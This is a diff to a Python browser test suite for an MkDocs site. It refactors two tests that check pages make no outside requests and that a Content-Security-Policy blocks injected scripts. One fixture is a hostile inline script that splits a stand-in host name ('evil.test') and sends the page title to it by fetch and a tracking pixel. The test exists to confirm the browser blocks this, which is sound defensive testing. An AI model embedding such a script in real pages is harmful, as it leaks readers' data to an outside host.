@@ -10,6 +10,7 @@ PORTFOLIO_REQUIRE_BROWSER=1 (as in CI) they fail instead.
 
 from __future__ import annotations
 
+import contextlib
 import functools
 import http.server
 import json
@@ -1191,22 +1192,14 @@ def test_a_page_asks_no_other_website_for_what_it_shows(page: Any, tmp_path: Pat
     """An item showing a partner's photo by its address, an embedded video, a script and a stylesheet from other
     hosts: the browser opening it asked each of those hosts for them, telling them who read the (internal) page. It
     now asks no other host for anything; the photo's description shows, and the link to the partner stays."""
-    project = Project(tmp_path / "project")
-    project.write("framework.yml", FRAMEWORK)
-    project.write("mkdocs.yml", MKDOCS_YML)
-    project.item(
-        "partnerships/shown.md",
-        "title: Shown\ntype: evidence\nmaps_to: partnerships/do\ndate: 2026-05-14\nvisibility: internal",
+    body = (
         "![Our team](https://partner.example.org/team.jpg)\n\n"
         '<iframe src="https://video.example.com/embed/1"></iframe>\n'
         '<script src="https://cdn.example.net/widget.js"></script>\n'
         '<link rel="stylesheet" href="https://fonts.example.com/a.css">\n\n'
-        "[The partner](https://partner.example.org/)\n",
+        "[The partner](https://partner.example.org/)\n"
     )
-    built = project.build(audience="internal")
-    assert not built.failed, built.error
-    server = Server(built.site)
-    try:
+    with _served_internal_item(tmp_path, "shown", body) as (server, _):
         requested: list[str] = []
         page.on("request", lambda request: requested.append(request.url))
         page.goto(server.url + "partnerships/shown/")
@@ -1214,8 +1207,6 @@ def test_a_page_asks_no_other_website_for_what_it_shows(page: Any, tmp_path: Pat
         assert requested and [url for url in requested if not url.startswith(server.url)] == []
         assert page.locator("article").inner_text().count("Our team") == 1
         assert page.locator('a[href="https://partner.example.org/"]').count() == 1
-    finally:
-        server.close()
 
 
 def test_a_pages_own_script_cannot_load_from_another_website(page: Any, tmp_path: Path) -> None:
@@ -1223,19 +1214,11 @@ def test_a_pages_own_script_cannot_load_from_another_website(page: Any, tmp_path
     (a hostile review): the browser itself now refuses, as every page of the site carries a Content-Security-Policy
     allowing its own files only. The script runs (the refusals are seen), and whatever it asks of another host is
     blocked by the policy before it leaves the browser."""
-    project = Project(tmp_path / "project")
-    project.write("framework.yml", FRAMEWORK)
-    project.write("mkdocs.yml", MKDOCS_YML)
-    project.item(
-        "partnerships/scripted.md",
-        "title: Scripted\ntype: evidence\nmaps_to: partnerships/do\ndate: 2026-05-14\nvisibility: internal",
+    body = (
         "Text.\n\n<script>\nconst host = 'https://h44.' + 'evil.test/';\nnew Image().src = host + 'pixel.gif';\n"
-        "fetch(host + 'collect', {method: 'POST', body: document.title}).catch(() => {});\n</script>\n",
+        "fetch(host + 'collect', {method: 'POST', body: document.title}).catch(() => {});\n</script>\n"
     )
-    built = project.build(audience="internal")  # the widest build
-    assert not built.failed, built.error
-    server = Server(built.site)
-    try:
+    with _served_internal_item(tmp_path, "scripted", body) as (server, site):  # the widest build
         elsewhere: list[tuple[str, str]] = []  # each request to another host, and why it failed
         page.on("requestfinished", lambda request: elsewhere.append((request.url, "finished")))
         page.on("requestfailed", lambda request: elsewhere.append((request.url, request.failure or "")))
@@ -1251,7 +1234,24 @@ def test_a_pages_own_script_cannot_load_from_another_website(page: Any, tmp_path
         ]
         others = [(url, why) for url, why in elsewhere if not url.startswith(server.url)]
         assert all("csp" in why.lower() for _, why in others), others
-        not_found = (built.site / "404.html").read_text(encoding="utf-8")  # the site's 404 page carries it too
+        not_found = (site / "404.html").read_text(encoding="utf-8")  # the site's 404 page carries it too
         assert not_found.count('<meta http-equiv="Content-Security-Policy"') == 1
+
+
+@contextlib.contextmanager
+def _served_internal_item(tmp_path: Path, name: str, body: str) -> Iterator[tuple[Server, Path]]:
+    """The widest (internal) build of a project holding one internal item with `body`, served; and its site."""
+    project = Project(tmp_path / "project")
+    project.write("framework.yml", FRAMEWORK)
+    project.write("mkdocs.yml", MKDOCS_YML)
+    front_matter = (
+        f"title: {name.title()}\ntype: evidence\nmaps_to: partnerships/do\ndate: 2026-05-14\nvisibility: internal"
+    )
+    project.item(f"partnerships/{name}.md", front_matter, body)
+    built = project.build(audience="internal")
+    assert not built.failed, built.error
+    server = Server(built.site)
+    try:
+        yield server, built.site
     finally:
         server.close()
